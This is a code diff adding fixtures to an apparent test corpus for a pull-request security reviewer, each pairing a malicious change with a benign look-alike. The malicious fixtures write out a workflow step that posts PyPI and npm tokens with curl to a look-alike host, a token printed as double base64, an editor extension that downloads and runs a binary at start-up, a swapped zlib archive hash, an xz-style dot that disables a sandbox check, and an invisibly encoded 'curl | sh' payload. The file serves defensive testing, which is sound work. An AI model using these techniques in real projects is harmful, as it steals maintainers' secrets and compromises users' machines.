@@ -10,6 +10,55 @@ import { codePr as attackPr } from './code.js';
 const INDEX_BASE = lines("'use strict';", '', "const supportsColor = require('./supports-color');", '', 'module.exports = function tint(text, code) {', '  return supportsColor ? `\\u001b[${code}m${text}\\u001b[0m` : text;', '};');
 
 const EXTENSION_BASE = lines("'use strict';", "const vscode = require('vscode');", '', 'function activate(context) {', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };');
+/** subprojects/zlib.wrap as wrapdb writes it, with its upstream source URL and checksum. */
+function zlibWrap(sourceUrl: string, hash: string): string {
+  return lines(
+    '[wrap-file]',
+    'directory = zlib-1.3.1',
+    `source_url = ${sourceUrl}`,
+    'source_fallback_url = https://wrapdb.mesonbuild.com/v2/zlib_1.3.1-1/get_source/zlib-1.3.1.tar.gz',
+    'source_filename = zlib-1.3.1.tar.gz',
+    `source_hash = ${hash}`,
+    'patch_filename = zlib_1.3.1-1_patch.zip',
+    'patch_url = https://wrapdb.mesonbuild.com/v2/zlib_1.3.1-1/get_patch',
+    'patch_hash = e79b98eb24a75392009cec6f99ca5cdca9881ff20bfa174e8b8926d5c7a47095',
+    '',
+    '[provide]',
+    'zlib = zlib_dep',
+  );
+}
+
+/** A CMakeLists.txt whose Landlock check compiles a test program; `extra` lines go after its includes. */
+function landlockCmake(extra: string[]): string {
+  return lines(
+    'cmake_minimum_required(VERSION 3.16)',
+    'project(lzfast C)',
+    'include(CheckCSourceCompiles)',
+    'check_c_source_compiles("',
+    '    #include <linux/landlock.h>',
+    '    #include <sys/syscall.h>',
+    '    #include <sys/prctl.h>',
+    ...extra,
+    '    void my_sandbox(void)',
+    '    {',
+    '        (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);',
+    '        (void)SYS_landlock_create_ruleset;',
+    '    }',
+    '    int main(void) { return 0; }',
+    '    "',
+    'HAVE_LINUX_LANDLOCK)',
+    'if(HAVE_LINUX_LANDLOCK)',
+    '  add_compile_definitions(HAVE_LINUX_LANDLOCK)',
+    'endif()',
+    'add_library(lzfast src/lzfast.c)',
+  );
+}
+
+/** A VS Code extension's package.json, activated by `activationEvents`. */
+function extensionManifest(activationEvents: string[]): string {
+  return `${JSON.stringify({ name: 'tidy-format', displayName: 'Tidy', version: '1.4.0', publisher: 'acme', engines: { vscode: '^1.90.0' }, main: './extension.js', activationEvents, contributes: { commands: [{ command: 'tidy.run', title: 'Tidy' }] } }, null, 2)}\n`;
+}
+
 /** A payload hidden as variation selectors: one selector a byte (U+FE00-U+FE0F for 0-15, U+E0100-U+E01EF for 16-255). */
 const HIDDEN = [...Buffer.from("require('child_process').exec('curl -s https://x.invalid/p | sh')")].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
 
@@ -51,6 +100,27 @@ function inlineTaskTargets(name: string): string {
     '  </UsingTask>',
     `  <Target Name="Run${name}" BeforeTargets="Build"><${name} /></Target>`,
     '</Project>',
+  );
+}
+
+/** A Node project's CI workflow; `steps` are appended to its test job. */
+function nodeWorkflow(...steps: string[]): string {
+  return lines(
+    'name: CI',
+    'on:',
+    '  push:',
+    '    branches: [main]',
+    '  pull_request:',
+    'permissions:',
+    '  contents: read',
+    'jobs:',
+    '  test:',
+    '    runs-on: ubuntu-latest',
+    '    steps:',
+    '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
+    '      - run: npm ci',
+    '      - run: npm test',
+    ...steps,
   );
 }
 
@@ -698,5 +768,201 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-ghostaction-ordinary-host',
+    description:
+      'GitGuardian, September 2025 ("GhostAction"): a pushed "Github Actions Security" workflow posts the repository\'s PyPI and npm tokens with curl. Here the collector has an ordinary-looking name (no IP in it, no request-bin service).',
+    fixture: () =>
+      attackPr({
+        repo: 'pyfmt',
+        number: 7127,
+        title: 'Add Github Actions Security workflow',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/github-actions-security.yml',
+            head: lines(
+              'name: Github Actions Security',
+              'on:',
+              '  workflow_dispatch:',
+              '  push:',
+              'jobs:',
+              '  send-secrets:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - name: Prepare Cache Busting',
+              '        run: echo "CB=$(date +%s)" >> $GITHUB_ENV',
+              '      - name: Build Artifact',
+              '        run: curl -s -d "password=${{ secrets.PYPI_API_TOKEN }}&npm=$NPM" "https://api.buildstats-cdn.net/v2/collect?${CB}"',
+              '        env:',
+              '          NPM: ${{ secrets.NPM_TOKEN }}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-secret-printed-double-base64',
+    description:
+      'The tj-actions/changed-files payload (March 2025) printed what it found as double base64 into public logs, where GitHub does not mask it; here a "debug the publish step" PR prints the npm token that way.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7128,
+        title: 'ci: debug flaky publish auth',
+        author: 'newcomer',
+        files: [{ path: '.github/workflows/ci.yml', base: nodeWorkflow(), head: nodeWorkflow('      - name: Check npm auth', '        run: echo "${{ secrets.NPM_TOKEN }}" | base64 -w0 | base64 -w0') }],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-secrets-to-their-own-services',
+    description:
+      'A maintainer adds deploy and notification steps: the Netlify token as a bearer header, the Codecov token in its upload URL, the Telegram bot token in its API path, a generic deploy-hook secret in a query, and the keystore decoded into a file.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7129,
+        title: 'ci: deploy previews and notify',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: nodeWorkflow(),
+            head: nodeWorkflow(
+              '      - name: Deploy',
+              '        run: curl -sf -X POST -H "Authorization: Bearer ${{ secrets.NETLIFY_AUTH_TOKEN }}" -d @deploy.json https://api.netlify.com/api/v1/sites/tint/deploys',
+              '      - name: Coverage',
+              '        run: curl -s -F "file=@coverage/lcov.info" "https://codecov.io/upload/v4?token=${{ secrets.CODECOV_TOKEN }}"',
+              '      - name: Notify',
+              '        run: curl -s -X POST "https://api.telegram.org/bot${{ secrets.TELEGRAM_TOKEN }}/sendMessage" -d chat_id=${{ secrets.TELEGRAM_CHAT_ID }} -d text=deployed',
+              '      - name: Warm cache',
+              '        run: curl -fsS -X POST "https://tint.acme.dev/api/hooks/warm?token=${{ secrets.DEPLOY_HOOK_SECRET }}"',
+              '      - name: Keystore',
+              '        run: echo "${{ secrets.KEYSTORE_B64 }}" | base64 -d > android/release.jks',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-extension-starts-and-runs-download',
+    description:
+      'GlassWorm-like (Koi Security, October 2025): an extension repository PR makes the extension activate on every start-up ("*") and its activate() fetches a helper binary, makes it executable and runs it, on every machine that has the extension.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-vscode',
+        number: 7130,
+        title: 'perf: warm the formatter cache on start-up',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: extensionManifest(['onCommand:tidy.run']), head: extensionManifest(['*']) },
+          {
+            path: 'extension.js',
+            base: EXTENSION_BASE,
+            head: EXTENSION_BASE.replace(
+              'function activate(context) {\n',
+              "function activate(context) {\n  require('child_process').exec('curl -sL https://cdn.tidy-format.dev/warm -o /tmp/.tidy-warm && chmod +x /tmp/.tidy-warm && /tmp/.tidy-warm &');\n",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-extension-starts-language-server',
+    description: 'A maintainer makes the extension start with the editor (onStartupFinished): activate() starts its bundled language server, asks git for the workspace root and checks GitHub for a newer release.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-vscode',
+        number: 7131,
+        title: 'feat: start the language server on start-up',
+        files: [
+          { path: 'package.json', base: extensionManifest(['onCommand:tidy.run']), head: extensionManifest(['onStartupFinished']) },
+          {
+            path: 'extension.js',
+            base: EXTENSION_BASE,
+            head: EXTENSION_BASE.replace(
+              'function activate(context) {\n',
+              [
+                'function activate(context) {',
+                "  const server = context.asAbsolutePath('server/out/server.js');",
+                "  const client = new LanguageClient('tidy', 'Tidy', { run: { module: server }, debug: { module: server } }, { documentSelector: [{ language: 'json' }] });",
+                '  client.start();',
+                "  execFile('git', ['rev-parse', '--show-toplevel'], { cwd: vscode.workspace.rootPath }, (err, out) => { if (!err) context.workspaceState.update('root', out.trim()); });",
+                "  fetch('https://api.github.com/repos/acme/tidy-vscode/releases/latest').then((r) => r.json()).then((r) => r.tag_name !== context.extension.packageJSON.version && vscode.window.showInformationMessage(`Tidy ${r.tag_name} is out`));",
+                '',
+              ].join('\n'),
+            ).replace("const vscode = require('vscode');", "const vscode = require('vscode');\nconst { execFile } = require('child_process');\nconst { LanguageClient } = require('vscode-languageclient/node');"),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-meson-wrap-swapped-archive',
+    description:
+      'An xz-style swap through a dependency\'s archive: a "use a faster mirror" PR points the zlib wrap at a look-alike CDN and changes source_hash for the same zlib-1.3.1.tar.gz, so Meson accepts another archive under the release\'s name.',
+    fixture: () =>
+      attackPr({
+        repo: 'fastq-meson',
+        number: 7132,
+        title: 'build: fetch zlib from a faster mirror',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'subprojects/zlib.wrap',
+            base: zlibWrap('https://zlib.net/fossils/zlib-1.3.1.tar.gz', '9a93b2b7dfdac77ceba5a558a580e74667dd6fede4585b91eefb60f03b72df23'),
+            head: zlibWrap('https://zlib-mirror.cdn-pkgs.net/releases/zlib-1.3.1.tar.gz', '5c2e3f4a1b0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['meson-wrap-source-changed'] },
+  },
+  {
+    id: 'attack-meson-wrap-mirror-same-checksum',
+    description: 'A maintainer moves the zlib wrap from zlib.net to the GitHub release of the same archive (zlib.net drops old releases); source_hash stays, and Meson checks it.',
+    fixture: () =>
+      attackPr({
+        repo: 'fastq-meson',
+        number: 7133,
+        title: 'build: fetch zlib from its GitHub release',
+        files: [
+          {
+            path: 'subprojects/zlib.wrap',
+            base: zlibWrap('https://zlib.net/zlib-1.3.1.tar.gz', '9a93b2b7dfdac77ceba5a558a580e74667dd6fede4585b91eefb60f03b72df23'),
+            head: zlibWrap('https://github.com/madler/zlib/releases/download/v1.3.1/zlib-1.3.1.tar.gz', '9a93b2b7dfdac77ceba5a558a580e74667dd6fede4585b91eefb60f03b72df23'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-landlock-check-stray-dot',
+    description:
+      "xz-utils, 2024: one '.' added to the test program of CMakeLists.txt's Landlock check made it never compile, so the sandbox was silently left out of every build. Here as a newcomer's \"tidy the Landlock check\" PR.",
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 7134,
+        title: 'build: tidy the Landlock check',
+        author: 'newcomer',
+        files: [{ path: 'CMakeLists.txt', base: landlockCmake([]), head: landlockCmake(['.']) }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['security-probe-broken'] },
+  },
+  {
+    id: 'attack-landlock-check-abi-update',
+    description: "A maintainer extends the Landlock check to require the ruleset ABI the sandbox uses (a real line of C in the test program).",
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 7135,
+        title: 'build: require Landlock ABI with LANDLOCK_ACCESS_FS_REFER',
+        files: [{ path: 'CMakeLists.txt', base: landlockCmake([]), head: landlockCmake(['        (void)LANDLOCK_ACCESS_FS_REFER;']) }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:security-probe-broken'] },
   },
 ];
